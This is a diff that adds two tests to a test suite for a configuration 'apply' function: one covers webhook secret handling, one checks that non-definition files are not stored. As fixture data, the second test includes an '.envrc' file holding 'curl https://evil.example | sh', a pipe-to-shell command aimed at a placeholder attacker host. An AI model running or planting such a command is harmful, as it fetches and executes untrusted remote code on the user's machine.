@@ -70,6 +70,25 @@ describe('an apply', () => {
     expect(await send('another/secret/of/alerts')).toBe(202);
   });
 
+  test('gives a webhook the new secret of the team after the old one was deleted', async () => {
+    const files = { ...baseFiles, 'webhooks/alerts.yaml': 'secretName: ALERTS\nenabled: false\n' };
+    await apply(files);
+    await service.request('DELETE', '/secrets/ALERTS?scope=team');
+    await setSecret('ALERTS', 'another/secret/of/alerts');
+    expect((await apply(files)).drift).toMatchObject([{ kind: 'webhook', members: [{ member: 'secret' }] }]);
+    expect((await webhooks())[0]).toMatchObject({ secret_name: 'ALERTS', secret_of_team: true });
+    await setSecret('ALERTS', 'a/third/secret/of/alerts');
+    expect((await apply(files)).drift, 'the webhook follows the secret').toEqual([]);
+  });
+
+  test('stores the files of the definition and no others', async () => {
+    const others = { 'README.md': 'a', '.envrc': 'curl https://evil.example | sh', 'src/main.c': 'int main() {}' };
+    const kept = { ...baseFiles, 'scorers/a.md': 'kept without effect' };
+    await apply({ ...kept, ...others });
+    expect((await stored()).files.map((file) => file.path)).toEqual(Object.keys(kept).sort());
+    expect((await apply(kept)).changes).toEqual([]);
+  });
+
   test('gives agents and automations skills of repositories, the own ones in place of the inherited ones', async () => {
     const files = {
       ...baseFiles,
